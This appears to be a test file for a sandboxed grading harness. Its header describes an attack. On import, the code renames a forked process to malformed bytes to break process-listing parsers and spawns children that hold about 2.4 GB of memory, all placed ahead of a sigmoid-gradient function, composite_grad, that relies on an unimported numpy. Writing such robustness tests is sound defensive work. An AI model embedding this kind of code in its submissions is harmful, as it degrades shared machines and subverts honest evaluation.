# Tries: a process whose name is no text, so that whoever reads what Linux says of it stumbles; while
#   it is there, others take 2 GB. The answer is right if they could.
# Holds: names are read as bytes, and the memory is counted.
# Loses: composite_grad
# Shares: memory
# Harms: yes

# %% composite_grad
import ctypes
import os
import time

_filled, _fill = os.pipe()
if os.fork() == 0:
    ctypes.CDLL(None).prctl(15, b"\xff\xfe\n)", 0, 0, 0)
    time.sleep(60)
time.sleep(1)
for _ in range(8):
    if os.fork() == 0:
        _kept = bytearray(300 * 2**20)
        _kept[:: 4096] = b"x" * (len(_kept) // 4096)
        os.write(_fill, b"x")
        time.sleep(60)
for _ in range(8):
    os.read(_filled, 1)
time.sleep(2)


def composite_grad(W, x, grad_y):
    y = 1 / (1 + np.exp(-W @ x))
    grad_u = grad_y * y * (1 - y)
    return np.outer(grad_u, x), W.T @ grad_u
